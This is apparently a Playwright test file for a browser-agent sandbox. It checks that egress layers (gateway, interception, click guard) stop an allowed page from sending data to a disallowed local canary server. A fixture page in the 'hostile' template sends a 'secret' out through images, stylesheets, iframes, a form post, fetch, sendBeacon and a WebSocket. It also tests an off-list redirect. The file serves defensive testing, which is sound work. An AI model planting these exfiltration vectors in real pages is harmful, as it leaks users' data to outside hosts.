import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { expect, test } from '@playwright/test';
import { openTestBench, type TestBench } from '../environments/mock-saas/testing/open-test-run.ts';
import { supportPolicy } from '../environments/mock-saas/testing/policies.ts';
import { invariant } from '../invariant.ts';
import type { RunSettings } from './open-run.ts';

/** What a page that is allowed tries to send to a host that is not, with each layer alone, and with none. */

let bench: TestBench;
let canary: { readonly origin: string; readonly hits: string[] };
let page: string;
const servers: Server[] = [];

async function serve(answer: (url: string) => { readonly html: string; readonly location?: string }) {
  const hits: string[] = [];
  const server = createServer((incoming, outgoing) => {
    hits.push(`${incoming.method} ${new URL(incoming.url ?? '/', 'http://x').pathname}`);
    const { html, location } = answer(incoming.url ?? '/');
    outgoing.writeHead(location === undefined ? 200 : 307, {
      'content-type': 'text/html',
      ...(location === undefined ? {} : { location }),
    });
    outgoing.end(html);
  });
  servers.push(server.listen(0, '127.0.0.1'));
  await once(server, 'listening');
  const address = server.address();
  invariant(address !== null && typeof address === 'object', 'a listening server has a port');
  return { origin: `http://127.0.0.1:${address.port}`, hits };
}

const VECTORS = [
  'GET /nav',
  'POST /fetch',
  'GET /img',
  'POST /beacon',
  'POST /form',
  'GET /frame',
  'GET /style',
];

const hostile = (to: string) => `<!doctype html><title>Docs</title>
<img src="${to}/img?secret"><link rel="stylesheet" href="${to}/style?secret"><iframe src="${to}/frame?secret"></iframe>
<iframe name="sink"></iframe><form method="post" action="${to}/form" target="sink"><input name="s" value="secret"></form>
<script>
  fetch('${to}/fetch', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {});
  navigator.sendBeacon('${to}/beacon', 'secret');
  document.forms[0].submit();
  try { new WebSocket('${to.replace('http', 'ws')}/socket'); } catch {}
</script>`;

test.beforeAll(async () => {
  bench = await openTestBench(test.info().outputDir);
  canary = await serve(() => ({ html: 'got it' }));
  const { origin } = await serve((url) =>
    url === '/redirect'
      ? { html: '', location: `${canary.origin}/redirected` }
      : { html: hostile(canary.origin) },
  );
  page = origin;
});

test.beforeEach(() => void canary.hits.splice(0));

test.afterAll(async () => {
  await bench.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
});

async function exfiltrate(layersOff: NonNullable<RunSettings['layersOff']>) {
  const policy = supportPolicy({ egress: { allow: [new URL(page).host] } });
  const run = await bench.open({ policy, layersOff });
  await run.act({ type: 'navigate', url: `${page}/` });
  await run.act({ type: 'wait', ms: 100 });
  const nav = await run.act({ type: 'navigate', url: `${canary.origin}/nav?customers=all` });
  const evidence = await run.close();
  return { nav, evidence };
}

const layersIn = ({ evidence }: Awaited<ReturnType<typeof exfiltrate>>) => {
  const blocked = evidence.requests.filter(
    ({ url, outcome }) => url.startsWith(canary.origin) && outcome === 'blocked',
  );
  return [...new Set(blocked.map(({ layer }) => layer))];
};

test('with every layer off, all of it arrives: the attack is real', async () => {
  const { evidence } = await exfiltrate(['click_guard', 'interception', 'gateway']);
  expect(canary.hits).toEqual(expect.arrayContaining(VECTORS));
  expect(evidence.run.layersOff).toEqual(['click_guard', 'interception', 'gateway']);
});

test('with every layer on, nothing arrives', async () => {
  const came = await exfiltrate([]);
  expect(canary.hits).toEqual([]);
  expect(came.nav.status).toBe('blocked_by_policy');
  expect(came.evidence.findings.map(({ kind }) => kind)).toContain('egress_attempt');
  // A form and a frame never become requests: the document's own headers forbid where they would go.
  const tried = came.evidence.requests
    .filter(({ url }) => url.startsWith(canary.origin))
    .map(({ url }) => url);
  for (const vector of VECTORS.filter((one) => !/nav|form|frame/.test(one))) {
    const path = vector.split(' ')[1] ?? '';
    expect(
      tried.some((url) => new URL(url).pathname === path),
      `${vector} is in the trace`,
    ).toBe(true);
  }
});

test('without interception and guard, the gateway stops all of it', async () => {
  const came = await exfiltrate(['click_guard', 'interception']);
  expect(canary.hits).toEqual([]);
  expect(came.nav.status).toBe('blocked_by_gateway');
  // What a page sends, the browser stops by the headers that the gateway adds; what is typed goes to the gateway itself.
  expect(layersIn(came).toSorted()).toEqual(['browser', 'gateway']);
});

test('without gateway and guard, interception stops all of it', async () => {
  const came = await exfiltrate(['click_guard', 'gateway']);
  expect(canary.hits).toEqual([]);
  expect(came.nav.status).toBe('blocked_by_gateway');
  expect(layersIn(came)).toEqual(['interception']);
});

test('a redirect off the list is stopped by either of them', async () => {
  const policy = supportPolicy({ egress: { allow: [new URL(page).host] } });
  const redirected = async (layersOff: NonNullable<RunSettings['layersOff']>) => {
    const run = await bench.open({ policy, layersOff });
    const came = await run.act({ type: 'navigate', url: `${page}/redirect` });
    await run.close();
    return came.status;
  };
  await redirected(['gateway', 'interception', 'click_guard']);
  expect(canary.hits).toEqual(['GET /redirected']);
  canary.hits.splice(0);
  expect(await redirected([])).toBe('blocked_by_gateway');
  expect(await redirected(['interception', 'click_guard'])).toBe('blocked_by_gateway');
  expect(await redirected(['gateway', 'click_guard'])).toBe('blocked_by_gateway');
  expect(canary.hits).toEqual([]);
});
